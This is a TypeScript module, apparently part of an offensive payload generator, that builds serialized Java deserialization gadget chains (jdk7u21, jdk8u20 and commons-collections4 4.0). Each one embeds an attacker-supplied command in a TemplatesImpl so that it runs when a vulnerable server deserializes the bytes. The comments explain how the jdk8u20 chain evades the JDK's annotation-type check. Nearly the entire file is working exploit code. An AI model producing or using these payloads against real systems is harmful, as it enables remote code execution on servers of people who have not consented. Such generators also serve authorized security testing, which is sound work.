/**
 * The gadgets of generate_java_gadget that end in a TemplatesImpl (java-templates.ts) asked for a
 * transformer, each reaching it by another path while the stream is read:
 * - `jdk7u21`: a LinkedHashSet of the TemplatesImpl and of a proxy whose AnnotationInvocationHandler
 *   maps "f5a5a608" to it. The string's hash is 0, so the proxy's hash is the TemplatesImpl's, and the
 *   set compares the two: the handler's equals calls every method of Templates on the TemplatesImpl.
 *   JDK 7u25 and later refuse a handler whose type is not an annotation.
 * - `jdk8u20`: the same, with the handler read first inside a BeanContextSupport (in a field of the
 *   proxy that Proxy does not have), which swallows the handler's refusal, then referred to by
 *   handle. Later JDKs refuse that too.
 * - `commons-collections4.0`: a PriorityQueue ordered by a TransformingComparator whose transformer
 *   makes a TrAXFilter of the TemplatesImpl (commons-collections4 4.0; 4.1 made InstantiateTransformer
 *   unserializable).
 */
import { COMMONS_COLLECTIONS_4 as CC4, JAVA, JDK } from './java-classes.js';
import { JavaObjectStream } from './java-serialization.js';
import { writeTemplatesImpl } from './java-templates.js';

/** A string whose String.hashCode() is 0. */
const ZERO_HASH_KEY = 'f5a5a608';

type Write = (stream: JavaObjectStream) => void;

/** An AnnotationInvocationHandler of type Templates mapping ZERO_HASH_KEY to the TemplatesImpl. */
function writeTemplatesHandler(stream: JavaObjectStream, templates: number): number {
  stream.object(JDK.annotationInvocationHandler);
  const handle = stream.lastHandle;
  stream.fields(JDK.annotationInvocationHandler, {
    memberValues: (s) => {
      s.object(JAVA.hashMap).f32(0.75).i32(12);
      // HashMap.writeObject: the table's capacity and the number of entries
      s.blockData((block) => block.i32(16).i32(1));
      s.string(ZERO_HASH_KEY).reference(templates);
      s.endBlockData();
    },
    type: (s) => s.classObject(JDK.templates),
  });
  return handle;
}

/** A LinkedHashSet of two elements, the first the TemplatesImpl of `form`, the second by `proxy`. */
function templatesSet(
  command: string,
  form: 'jdk7' | 'jdk8',
  writeProxy: (stream: JavaObjectStream, templates: number) => void,
): Buffer {
  const stream = new JavaObjectStream();
  stream.object(JDK.linkedHashSet);
  // HashSet.writeObject: capacity, load factor, size
  stream.blockData((block) => block.i32(16).f32(0.75).i32(2));
  const templates = writeTemplatesImpl(stream, command, form);
  writeProxy(stream, templates);
  stream.endBlockData();
  return stream.toBuffer();
}

const TEMPLATES_INTERFACE = ['javax.xml.transform.Templates'];

export function jdk7u21Gadget(command: string): Buffer {
  return templatesSet(command, 'jdk7', (stream, templates) => {
    stream.proxyObject(TEMPLATES_INTERFACE, JDK.proxy);
    stream.fields(JDK.proxy, { h: (s) => writeTemplatesHandler(s, templates) });
  });
}

export function jdk8u20Gadget(command: string): Buffer {
  return templatesSet(command, 'jdk8', (stream, templates) => {
    const proxy = JDK.proxyWithDummyField;
    stream.proxyObject(TEMPLATES_INTERFACE, proxy);
    let handler = 0;
    stream.fields(proxy, {
      dummy: (s) => {
        const context = JDK.beanContextSupport;
        s.object(context);
        const self = s.lastHandle;
        // its own peer: only then does BeanContextSupport.readObject read its children
        s.fields(context.superclass, { beanContextChildPeer: (peer) => peer.reference(self) });
        s.fields(context, { serializable: (count) => count.i32(1) });
        // the one child, whose reading fails (and is skipped) after the handler has its handle
        handler = writeTemplatesHandler(s, templates);
        // BeanContextSupport.deserialize: no membership listeners
        s.blockData((block) => block.i32(0)).endBlockData();
      },
      h: (s) => s.reference(handler),
    });
  });
}

const classOf =
  (descriptor: Parameters<JavaObjectStream['classObject']>[0]): Write =>
  (stream) =>
    stream.classObject(descriptor);

export function commonsCollections40Gadget(command: string): Buffer {
  const stream = new JavaObjectStream();
  stream.object(JDK.priorityQueue);
  stream.fields(JDK.priorityQueue, {
    size: (s) => s.i32(2),
    comparator: (s) => {
      s.object(CC4.transformingComparator).fields(CC4.transformingComparator, {
        decorated: (d) => d.object(CC4.comparableComparator),
        transformer: (t) => {
          t.object(CC4.chainedTransformer);
          t.array(CC4.transformerArray, [
            (c) => c.object(CC4.constantTransformer).classObject(JDK.traxFilter),
            (i) =>
              i.object(CC4.instantiateTransformer).fields(CC4.instantiateTransformer, {
                iArgs: (a) => a.array(JAVA.objectArray, [(t2) => writeTemplatesImpl(t2, command, 'current')]),
                iParamTypes: (p) => p.array(JAVA.classArray, [classOf(JDK.templates)]),
              }),
          ]);
        },
      });
    },
  });
  // PriorityQueue.writeObject: the array's length, then the elements, compared when read
  stream.blockData((block) => block.i32(3));
  stream.object(JAVA.integer).i32(1);
  stream.reference(stream.lastHandle);
  stream.endBlockData();
  return stream.toBuffer();
}
